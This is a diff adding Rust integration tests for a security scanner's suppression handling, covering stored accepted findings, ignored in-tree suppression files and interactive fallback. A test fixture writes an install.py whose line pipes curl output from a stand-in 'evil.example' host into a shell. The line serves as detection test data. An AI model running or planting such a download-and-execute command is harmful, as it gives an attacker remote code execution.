@@ -0,0 +1,135 @@
+//! Accepted findings are kept per target under `SIGIL_HOME` and every scan
+//! of that target leaves them out.  A `.sigil-suppressions` file inside the
+//! scanned tree is never honoured.  `--interactive` records accepted
+//! findings, and without a terminal it falls back to the normal report.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use sha2::{Digest, Sha256};
+
+use common::run_sigil;
+
+/// Where sigil keeps the accepted findings for `target`.
+fn store_file(home: &Path, target: &Path) -> PathBuf {
+    let canonical = std::fs::canonicalize(target).unwrap();
+    let key = hex::encode(Sha256::digest(canonical.to_string_lossy().as_bytes()));
+    home.join(".sigil/suppressions")
+        .join(format!("{}.txt", &key[..16]))
+}
+
+fn accept(home: &Path, target: &Path, contents: &str) {
+    let file = store_file(home, target);
+    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+    std::fs::write(file, contents).unwrap();
+}
+
+fn rules(out: &Output) -> Vec<String> {
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON report");
+    report["findings"]
+        .as_array()
+        .expect("findings array")
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap_or_default().to_string())
+        .collect()
+}
+
+fn project_with_findings() -> tempfile::TempDir {
+    let project = tempfile::tempdir().unwrap();
+    std::fs::write(
+        project.path().join("install.py"),
+        "import subprocess\nsubprocess.call(\"curl http://evil.example/x | sh\", shell=True)\n",
+    )
+    .unwrap();
+    project
+}
+
+#[test]
+fn accepted_findings_are_not_reported() {
+    let home = tempfile::tempdir().unwrap();
+    let project = project_with_findings();
+    let dir = project.path().to_str().unwrap();
+
+    let before = rules(&run_sigil(
+        home.path(),
+        &["--format", "json", "scan", dir, "--no-cache"],
+    ));
+    assert!(before.iter().any(|r| r == "CODE-013"), "{before:?}");
+
+    accept(
+        home.path(),
+        project.path(),
+        "# reviewed\nCODE-013 install.py:2\n",
+    );
+    let out = run_sigil(
+        home.path(),
+        &["--format", "json", "scan", dir, "--no-cache"],
+    );
+    let after = rules(&out);
+    assert!(!after.iter().any(|r| r == "CODE-013"), "{after:?}");
+    assert!(after.iter().any(|r| r == "CODE-015"), "{after:?}");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("1 finding(s) accepted in"));
+}
+
+#[test]
+fn suppressions_shipped_in_the_target_are_ignored() {
+    let home = tempfile::tempdir().unwrap();
+    let project = project_with_findings();
+    std::fs::write(
+        project.path().join(".sigil-suppressions"),
+        "CODE-013 install.py:2\nCODE-015 install.py\n",
+    )
+    .unwrap();
+    let out = run_sigil(
+        home.path(),
+        &[
+            "--format",
+            "json",
+            "scan",
+            project.path().to_str().unwrap(),
+            "--no-cache",
+        ],
+    );
+    let found = rules(&out);
+    assert!(found.iter().any(|r| r == "CODE-013"), "{found:?}");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("ignoring .sigil-suppressions"));
+}
+
+#[test]
+fn interactive_without_a_terminal_prints_the_report() {
+    let home = tempfile::tempdir().unwrap();
+    let target = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../tests/fixtures/reverse_shell"
+    );
+    let out = run_sigil(home.path(), &["scan", target, "--interactive"]);
+    assert_eq!(out.status.code(), Some(1), "{out:?}");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("needs a terminal"));
+    assert!(!Path::new(target).join(".sigil-suppressions").exists());
+}
+
+#[test]
+fn malformed_suppression_lines_are_skipped() {
+    let home = tempfile::tempdir().unwrap();
+    let project = project_with_findings();
+    accept(
+        home.path(),
+        project.path(),
+        "garbage\nCODE-013 install.py:2\n",
+    );
+    let out = run_sigil(
+        home.path(),
+        &[
+            "--format",
+            "json",
+            "scan",
+            project.path().to_str().unwrap(),
+            "--no-cache",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(1), "{out:?}");
+    assert!(!rules(&out).iter().any(|r| r == "CODE-013"));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("line 1"));
+}